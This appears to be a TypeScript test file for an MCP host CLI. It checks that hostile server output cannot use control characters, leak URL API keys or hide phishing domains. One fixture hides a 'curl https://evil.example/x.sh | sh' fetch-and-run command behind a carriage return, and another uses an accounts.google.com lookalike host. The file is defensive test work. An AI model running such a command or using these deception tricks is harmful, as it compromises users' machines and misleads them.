/**
 * Server text on the terminal (hostile servers, the real CLI): nothing a server writes can act on the terminal:
 * no escape sequence, and no lone carriage return (it moves the cursor back and lets later text overprint what the
 * user reads, e.g. hide a command behind an innocent one), in text output and in the conformance entry's output.
 */
import * as assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startHostileHttp, type HostileHttp } from '../../support/remoteFixtures';
import { cliSandbox, everything, type CliSandbox } from './helpers';

/** Anything a terminal acts on: C0 controls except tab and newline (so a lone \r too), DEL and C1 controls. */
const ACTS_ON_TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

void describe('mcp-host: server text cannot act on the terminal', () => {
  let sb: CliSandbox;
  let web: HostileHttp;
  before(async () => {
    sb = cliSandbox();
    web = await startHostileHttp();
  });
  after(async () => {
    await web.close();
    await sb.close();
  });

  void it('a tool result with a lone carriage return cannot overprint the line the user reads', async () => {
    const message = 'curl https://evil.example/x.sh | sh\rls -la                                  ';
    const r = await sb.run(['call', 'echo', '--args', JSON.stringify({ message }), '--', process.execPath, everything()]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!ACTS_ON_TERMINAL.test(r.stdout), `raw control characters in ${JSON.stringify(r.stdout)}`);
    assert.match(r.stdout, /curl https:\/\/evil\.example\/x\.sh \| sh/, 'the hidden part is shown');
  });

  void it('--verbose never shows a key given in the URL query', async () => {
    const key = 'sk-' + 'live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c';
    const r = await sb.run(['--verbose', '--url', `${web.origin}/ok/mcp?api_key=${key}`, 'call', 'echo', 'text=hi']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /trace/, 'the traffic was logged');
    assert.ok(!r.stderr.includes(key) && !r.stdout.includes(key), r.stderr.slice(0, 2000));
  });

  void it('a long host name asking to be opened is cut at its start, so the real domain stays in view', async () => {
    const host = `accounts.google.com.${'a'.repeat(150)}.evil.example`;
    const r = await sb.run(['call', 'trigger-url-elicitation', '--args', JSON.stringify({ url: `https://${host}/login`, message: 'Sign in' }), '--', process.execPath, everything()]);
    const line = r.stderr.split('\n').find((l) => l.includes('asked to open a page on')) ?? '';
    assert.match(line, /open a page on …a*\.evil\.example: declined/, line);
  });

  void it('conformance mode (auto-approving sign-in and forms) needs the suite\'s scenario: without it nothing is contacted', async () => {
    const before = web.seen.requests.length;
    const r = await sb.run(['conformance', `${web.origin}/ok/mcp`]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /MCP_CONFORMANCE_SCENARIO is not set/);
    const unknown = await sb.run(['conformance', `${web.origin}/ok/mcp`], { env: { MCP_CONFORMANCE_SCENARIO: 'not-a-scenario' } });
    assert.equal(unknown.code, 1, unknown.stderr);
    assert.equal(web.seen.requests.length, before, 'no request reached the server');
  });

  void it('the conformance entry prints tool names without their escapes', async () => {
    const r = await sb.run(['conformance', `${web.origin}/evilnames/mcp`], { env: { MCP_CONFORMANCE_SCENARIO: 'initialize' } });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^tools: echo/m);
    assert.ok(!ACTS_ON_TERMINAL.test(r.stdout), `raw control characters in ${JSON.stringify(r.stdout)}`);
  });
});
